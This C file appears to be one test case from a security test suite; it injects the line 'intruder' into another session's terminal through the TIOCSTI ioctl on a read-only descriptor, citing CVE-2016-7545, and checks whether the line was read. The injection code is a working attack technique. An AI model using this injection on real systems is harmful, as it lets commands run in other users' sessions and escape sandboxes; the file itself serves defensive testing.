// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. Puts a line into the input of a terminal that somebody else works at, by a descriptor that
 * was opened for reading. Source: TIOCSTI, ioctl_tty(2); CVE-2016-7545 and its like; 6.12 survey,
 * "TIOCSTI". Control: that session has read the line.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/ioctl.h>

#include "attack.h"
#include "files.h"

void attack(void)
{
	static const char command[] = "intruder\n";
	char *terminal = stage("terminal");
	int fd = open(terminal, O_RDONLY | O_NOCTTY | O_CLOEXEC);

	if (fd < 0)
		no_effect(errno);
	for (const char *at = command; *at; at++)
		if (ioctl(fd, TIOCSTI, at))
			no_effect(errno);
	judge(file_begins_soon(SHM "/typed", INTRUDER));
}
